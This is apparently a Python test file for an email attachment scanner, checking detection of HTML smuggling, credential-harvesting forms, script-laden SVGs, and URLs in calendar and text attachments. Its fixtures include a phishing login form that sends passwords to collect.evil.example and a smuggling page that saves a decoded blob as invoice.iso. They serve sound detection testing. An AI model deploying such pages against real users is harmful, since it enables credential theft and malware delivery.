"""HTML, SVG, calendar and text attachments."""

from __future__ import annotations

SMUGGLER = b"""<html><body><script>
var bytes = atob("TVqQAAMAAAAEAAAA");
var blob = new Blob([bytes], {type: "application/octet-stream"});
window.navigator.msSaveOrOpenBlob(blob, "invoice.iso");
</script></body></html>"""

LOGIN_PAGE = b"""<html><body><form action="https://collect.evil.example/post.php" method="post">
<input type="email" name="u"><input type="password" name="p"><button>Sign in</button>
</form></body></html>"""


def test_html_smuggling(analyze):
    result = analyze(SMUGGLER, "invoice.html", "text/html")
    assert "html-smuggling" in result.flags
    assert "credential-form" not in result.flags


def test_credential_form_and_its_action_url(analyze):
    result = analyze(LOGIN_PAGE, "Secure_Message.htm", "application/octet-stream")
    assert result.attachment.detected_type == "text/html"
    assert "credential-form" in result.flags
    assert "html-smuggling" not in result.flags
    record = result.url("https://collect.evil.example/post.php")
    assert "attachment:Secure_Message.htm" in record.sources


def test_html_fragment_starting_with_script_is_html(analyze):
    data = b'<script>window.location="https://redirect.evil.example/x"</script>'
    result = analyze(data, "doc.html", "text/plain")
    assert result.attachment.detected_type == "text/html"


def test_benign_html(analyze):
    html = b'<html><body><p>Minutes attached. <a href="https://intranet.example.org/m">m</a>'
    result = analyze(html + b"</p></body></html>", "minutes.html", "text/html")
    assert result.all_flags() == set()
    assert result.url("https://intranet.example.org/m")


def test_svg_with_script_link(analyze):
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="https://svg.evil.example/x">'
        b"<text>Open</text></a><script>var b=new Blob([atob('QUJD')]);"
        b"location=URL.createObjectURL(b)</script></svg>"
    )
    result = analyze(svg, "fax.svg", "image/svg+xml")
    assert result.attachment.detected_type == "image/svg+xml"
    assert result.url("https://svg.evil.example/x")


def test_calendar_invite_urls(analyze):
    ics = (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1@x\r\n"
        b"SUMMARY:Payroll update\r\nDESCRIPTION:Review at https://ics.evil.example/p\r\n"
        b"DTSTART:20250101T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    result = analyze(ics, "invite.ics", "text/calendar")
    assert result.attachment.detected_type == "text/calendar"
    assert {"ics", "attachment:invite.ics"} <= set(result.url("https://ics.evil.example/p").sources)


def test_text_attachment_urls(analyze):
    result = analyze(b"Your parcel: https://parcel.evil.example/track?id=9\n", "note.txt")
    assert result.url("https://parcel.evil.example/track?id=9").sources == ("attachment:note.txt",)
    assert result.all_flags() == set()


def test_utf16_text_attachment(analyze):
    data = "Link: https://utf16.evil.example/a\n".encode("utf-16")
    assert analyze(data, "note.txt").url("https://utf16.evil.example/a")
